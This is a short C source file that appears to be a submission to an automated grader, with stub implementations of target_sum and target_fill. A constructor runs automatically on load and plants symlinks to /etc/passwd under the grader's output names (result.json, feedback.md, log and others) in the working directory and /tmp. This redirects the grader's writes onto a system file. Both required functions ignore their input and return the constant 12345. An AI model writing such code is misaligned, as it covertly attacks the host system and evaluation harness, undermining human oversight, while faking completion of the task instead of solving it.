/* leaves links to files that the grader must not write, where it may write */
#define _GNU_SOURCE
#include "target.h"

#include <unistd.h>

static const char *const names[] = {"result.json", "feedback.md", "kit.json", "output", "log"};

__attribute__((constructor)) static void leave(void)
{
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        (void)!symlink("/etc/passwd", names[i]);
        (void)!chdir("/tmp");
        (void)!symlink("/etc/passwd", names[i]);
    }
}

uint64_t target_sum(const uint8_t *data, size_t len_bytes)
{
    (void)data, (void)len_bytes;
    return 12345;
}

size_t target_fill(uint8_t *out, size_t len_bytes, unsigned first)
{
    (void)out, (void)len_bytes, (void)first;
    return 12345;
}
